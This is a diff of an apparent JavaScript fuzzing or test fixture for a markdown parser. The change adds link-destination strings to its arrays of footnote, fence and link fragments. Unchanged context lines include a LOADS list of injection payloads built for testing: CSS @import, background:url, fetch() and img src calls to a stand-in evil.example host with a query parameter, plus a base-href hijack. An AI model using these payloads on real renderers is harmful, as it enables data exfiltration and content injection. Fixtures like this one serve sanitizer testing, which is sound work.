@@ -14,7 +14,7 @@ const FENCES = ['```', '~~~', '````', '```html', '``` ', '~~~~', '```js `', '   
 const NOTES = ['[^n]: ', '[^n]:', '[^n]:\n', '[^n]:\n    ', '[^N]: ', '[^n\\]]: ', '[^TOKEN]: ', '[^m]: ', '[^n]:\t', '![^n]', '[^n]', '[^n]', '[^N]', '[^m]', '[^n\\]]', '^[', '[^n] : '] // prettier-ignore
 const LABELS = ['a', 'a', 'A', 'b', 'TOKEN', 'x y', 'a\\]', 'a\nb']
 const TITLES = ['"?"', "'?'", '(?)', '"\n?"', '"b\n\n?"', '"\\"?"', "'\\'?'", '(\\)?)', '"?', '&quot;?"', '“?”', '"b" "?"', '\n"?"', '\n  (?)', '\n> "?"', "\\\ny '?'", '<"?"'] // prettier-ignore
-const PLACES = ['x', '<x>', 'mailto:x', '#', '<>', '<a b>', '<a> b>', '<a\\> b>', '\nx', '\n  <x>', 'x\\', '/x', 'https://x.example/', '> x'] // prettier-ignore
+const PLACES = ['x', '<x>', 'mailto:x', '#', '<>', '<a b>', '<a> b>', '<a\\> b>', '\nx', '\n  <x>', 'x\\', '/x', 'https://x.example/', '> x', '[b]:', '\n[b]:\n', '<[b]:>', 'TOKEN:'] // prettier-ignore
 const LOADS = ["@import '//evil.example/?q=", '@import "//evil.example/?q=', '*{background:url(//evil.example/?q=', "*{background:u\\72l('//evil.example/?q=", "fetch('//evil.example/?q=", 'fetch(`//evil.example/?q=', "'", '"', '`', '/*', '*/', '//', '<img src="//evil.example/?q=', "<img src='//evil.example/?q=", '<img src=//evil.example/?q=', '<a href="/', '<p title="', "<p title='", '<p style="', '">', "'>", '" src="//evil.example/?q=', "' src='//evil.example/?q=", '</p>', '<b>', '</b>', '<base href="//evil.example/', '<i<n', '<n ', '&#13;', '|', '\n|-|-|\n', '![', '](x)', '](', '`'] // prettier-ignore
 const BREAKS = ['\n', '\n', '\n', '\n', '\n\n', '\n\n', '\r\n', '\r', '\n \n', '\n>\n', '\u2028', '\n\u200b\n', '\\\n']
 const GAPS = ['', '', '', '', ' ', ' ', '\n', 'x', '. ']
